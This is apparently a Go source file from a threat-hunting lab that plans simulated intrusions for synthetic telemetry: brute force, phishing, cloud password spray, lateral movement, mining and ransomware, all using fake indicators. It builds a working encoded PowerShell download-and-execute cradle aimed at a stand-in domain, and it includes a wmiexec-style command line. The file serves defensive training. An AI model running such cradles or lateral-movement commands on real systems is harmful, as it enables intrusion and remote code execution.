package lab

// This file lays out the attacks before anything is generated: the
// attacker infrastructure (indicators), the victims, the timeline, and the
// processes several scenarios share. The plan is built in full whatever
// scenarios are selected, so every scenario's rows and the benign
// background are the same with or without the others.
//
// Attacker addresses sit in the documentation ranges 198.51.100.0/24 and
// 203.0.113.0/24 and attacker domains under .example; benign activity uses
// neither (its documentation-range addresses are all in 192.0.2.0/24).

import (
	"time"

	"github.com/vigil-hunt/vigil/kql/value"
)

// Indicators.
const (
	bruteIP      = "203.0.113.45"
	bruteHost    = "DESKTOP-7Q2M1KZ"
	stagerDomain = "dl.northgate-cdn.example"
	stagerIP     = "198.51.100.23"
	c2Domain     = "api.lumenrelay.example"
	c2IP         = "198.51.100.77"
	exfilIP      = "203.0.113.200"
	phishDLIP    = "198.51.100.40"
	phishC2      = "telemetry.quillmesh.example"
	phishC2IP    = "198.51.100.41"
	sprayIP      = "203.0.113.77"
	travelIP     = "198.51.100.150"
	scannerIP    = "203.0.113.9"
	minerDLIP    = "198.51.100.98"
	minerPool    = "pool.hashvault-mirror.example"
	minerPoolIP  = "198.51.100.99"
	ransomExt    = ".bl4ck"
	ransomNote   = "README-RECOVER-FILES.txt"
)

// Attacker files, with hashes of their own.
var (
	implantFile  = attackerFile(`C:\Users\Public\svcupd.exe`, 287744, "Microsoft Corporation", "Windows Update Service")
	attackPsExec = attackerFile(`C:\Users\Public\PsExec64.exe`, 716176, "Sysinternals - www.sysinternals.com", "Execute processes remotely")
	attackPSSvc  = attackerFile(`C:\Windows\PSEXESVC.exe`, 181064, "Sysinternals - www.sysinternals.com", "PsExec Service")
	procdumpFile = attackerFile(`C:\Windows\Temp\pd64.exe`, 424856, "Sysinternals - www.sysinternals.com", "Sysinternals process dump utility")
	ransomFile   = attackerFile(`C:\Windows\Temp\lbx.exe`, 153088, "", "")
	sevenZipFile = attackerFile(`C:\ProgramData\7za.exe`, 1195520, "Igor Pavlov", "7-Zip Standalone Console")
	rcloneFile   = attackerFile(`C:\ProgramData\rclone.exe`, 61337088, "https://rclone.org", "Rsync for cloud storage")
	minerFile    = attackerFile(`/tmp/.x/kswapd0`, 6316032, "", "")
)

// attackerFile describes a file the attacker brings; its hashes derive
// from a name no benign file uses.
func attackerFile(path string, size int64, company, desc string) *file {
	f := newFile(path, "attacker|"+path, size)
	if company != "" {
		f.ver = &verInfo{Company: company, Product: desc, Version: "1.0.0.0", Internal: f.Name, Original: f.Name, Description: desc}
		f.signer, f.sigStatus = "None", "Unsigned"
	}
	return f
}

// dayHook tells a workstation's benign day what a scenario expects of it.
type dayHook struct {
	arrive  value.Datetime
	logonID int64
	outlook *proc
}

type hookKey struct {
	h   *host
	day int
}

// plan is the attacks' shared layout.
type plan struct {
	g                              *gen
	target, fs, sql, web, jump, dc *host
	admin                          *user    // IT admin whose credentials are stolen
	victim                         *account // target's local helpdesk account
	support                        value.Datetime
	pinned                         map[pinKey]value.Datetime
	officeSignin                   map[pinKey]value.Datetime
	hooks                          map[hookKey]*dayHook

	// The on-premises intrusion.
	tBrute, tFoothold, tCradle, tImplant, stage2, beaconEnd value.Datetime
	rdpExplorer, cradle, implant                            *proc
	fsShell                                                 *proc // PsExec's cmd.exe on the file server
	sqlShell                                                *proc // WMI's cmd.exe on the SQL server

	// The phishing e-mail.
	phishHost    *host
	phishUser    *user
	tPhish       value.Datetime
	phishOutlook *proc

	// The cloud account takeover.
	travelUser      *user
	tSpray, tTravel value.Datetime

	// The internet-facing web server.
	tSSH     value.Datetime
	webUser  *account
	webShell *proc // the attacker's login shell after the brute force
}

func newPlan(g *gen) *plan {
	f := g.fleet
	p := &plan{g: g, pinned: map[pinKey]value.Datetime{}, officeSignin: map[pinKey]value.Datetime{}, hooks: map[hookKey]*dayHook{}}
	p.target = f.hostNamed("windows-target-1")
	p.fs, p.sql, p.web = f.first(kindFile), f.first(kindSQL), f.first(kindWeb)
	p.dc = f.first(kindDC)
	p.admin = f.admins[0]
	p.victim = p.target.helpdesk
	r := newRNG(g.cfg.Seed, "plan")
	p.intrusion(r)
	p.phishing(r)
	p.cloud(r)
	p.tSSH = g.at(0.47, 22, 30, 8*time.Hour)
	p.webUser = linuxUser(p.web, "deploy")
	wc := &hctx{g: g, h: p.web, r: r}
	login := add(p.tSSH, 34*time.Minute+time.Second)
	priv := wc.newProc(p.web.sys.sshd, img("sshd"), "sshd: deploy [priv]", login, p.web.rootAccount())
	p.webShell = wc.newProc(priv, img("bash"), "-bash", add(login, 300*time.Millisecond), p.webUser)
	return p
}

func (p *plan) intrusion(r *rng) {
	g := p.g
	// The intrusion on windows-target-1 sits in the last two days of the
	// window, so that "in the last few days" (three) always covers it.
	p.tBrute = g.at(0.78, 1, 30, 30*time.Hour)
	p.tFoothold = add(p.tBrute, 36*time.Minute)
	p.tCradle = add(p.tFoothold, 6*time.Minute)
	p.tImplant = add(p.tCradle, 6*time.Minute)
	p.stage2 = max(g.at(0.86, 2, 10, 8*time.Hour), add(p.tImplant, 4*time.Hour))
	p.beaconEnd = min(add(p.stage2, 4*time.Hour), add(g.end, -5*time.Minute))
	support := clock(localMidnight(p.tBrute.Time()).AddDate(0, 0, -1), 14, 20)
	if support > add(g.start, time.Hour) {
		p.support = support
		p.pinned[pinKey{p.admin, g.dayIndex(support)}] = add(support, -2*time.Hour)
	}
	c := &hctx{g: g, h: p.target, r: r}
	t := add(p.tFoothold, 20*time.Second)
	wl := c.newProc(p.target.sys.smss, img("winlogon.exe"), "winlogon.exe", t, acctSystem)
	wl.Session, wl.RemoteDev, wl.RemoteIP = 2, bruteHost, bruteIP
	ui := elevate(c.newProc(wl, img("userinit.exe"), `C:\Windows\system32\userinit.exe`, add(t, 3*time.Second), p.victim))
	ui.LogonID = p.target.nextLogonID()
	p.rdpExplorer = elevate(c.newProc(ui, img("explorer.exe"), `C:\Windows\Explorer.EXE`, add(t, 5*time.Second), p.victim))
	p.cradle = elevate(c.newProc(p.rdpExplorer, img("powershell.exe"), cradleCommand(), p.tCradle, p.victim))
	p.implant = elevate(c.newProc(p.cradle, implantFile, `"C:\Users\Public\svcupd.exe" -k netsvc`, p.tImplant, p.victim))
	fsc := &hctx{g: g, h: p.fs, r: r}
	svc := fsc.newProc(p.fs.sys.services, attackPSSvc, `C:\Windows\PSEXESVC.exe`, add(p.stage2, 4*time.Second), acctSystem)
	p.fsShell = fsc.newProc(svc, img("cmd.exe"), `"cmd.exe"`, add(p.stage2, 5*time.Second), acctSystem)
	sc := &hctx{g: g, h: p.sql, r: r}
	wmi := sc.newProc(p.sql.sys.dcom, img("WmiPrvSE.exe"), `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`, add(p.stage2, 39*time.Minute), acctNetworkService)
	p.sqlShell = elevate(sc.newProc(wmi, img("cmd.exe"), `cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__1731302511.4 2>&1`, add(p.stage2, 40*time.Minute), p.admin.admin))
	p.sqlShell.LogonID = p.sql.nextLogonID()
}

func (p *plan) phishing(r *rng) {
	g := p.g
	f := g.fleet
	for _, h := range f.workstations() {
		if h == p.target || h.owner.ws != h {
			continue
		}
		if p.phishHost == nil || p.phishUser.admin != nil || (h.owner.admin == nil && h.owner.Dept == "Finance" && p.phishUser.Dept != "Finance") {
			p.phishHost, p.phishUser = h, h.owner
		}
	}
	p.tPhish = g.at(0.33, 10, 20, 3*time.Hour)
	day := g.dayIndex(p.tPhish)
	arrive := max(add(p.tPhish, -100*time.Minute), value.DatetimeOf(localMidnight(p.tPhish.Time())))
	p.pinned[pinKey{p.phishUser, day}] = arrive
	c := &hctx{g: g, h: p.phishHost, r: r}
	acct := &p.phishUser.account
	p.phishOutlook = c.newProc(nil, img("OUTLOOK.EXE"), `"C:\Program Files\Microsoft Office\Root\Office16\OUTLOOK.EXE" `, add(arrive, 3*time.Minute), acct)
	p.phishOutlook.Session = 1
	p.phishOutlook.LogonID = p.phishHost.nextLogonID()
	p.hooks[hookKey{p.phishHost, day}] = &dayHook{arrive: arrive, logonID: p.phishOutlook.LogonID, outlook: p.phishOutlook}
}

func (p *plan) cloud(r *rng) {
	g := p.g
	for _, u := range g.fleet.users[4:] {
		if u.admin == nil && u != p.phishUser && (u.Dept == "Finance" || u.Dept == "Sales") {
			p.travelUser = u
			break
		}
	}
	if p.travelUser == nil {
		p.travelUser = g.fleet.users[len(g.fleet.users)-1]
	}
	p.tSpray = g.at(0.42, 3, 10, 2*time.Hour)
	p.tTravel = g.at(0.80, 14, 5, 2*time.Hour)
	day := g.dayIndex(p.tTravel)
	home := add(p.tTravel, -38*time.Minute)
	p.pinned[pinKey{p.travelUser, day}] = add(home, -3*time.Hour)
	p.officeSignin[pinKey{p.travelUser, day}] = home
}

// hookFor returns what a scenario expects of a workstation's day.
func (p *plan) hookFor(h *host, day int) *dayHook { return p.hooks[hookKey{h, day}] }

// supportAt returns when, on a given day, the IT administrator connects to
// the target for a support session (the logon whose credentials the
// attacker later dumps).
func (p *plan) supportAt(day int) (value.Datetime, bool) {
	if p.support == 0 || p.g.dayIndex(p.support) != day {
		return 0, false
	}
	return p.support, true
}

// cradleCommand is the encoded download cradle: the -enc argument is the
// UTF-16LE Base64 of a real PowerShell one-liner, so decoding it works.
func cradleCommand() string {
	script := "IEX (New-Object Net.WebClient).DownloadString('http://" + stagerDomain + "/s/a.ps1')"
	return `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -nop -w hidden -enc ` + encodePS(script)
}
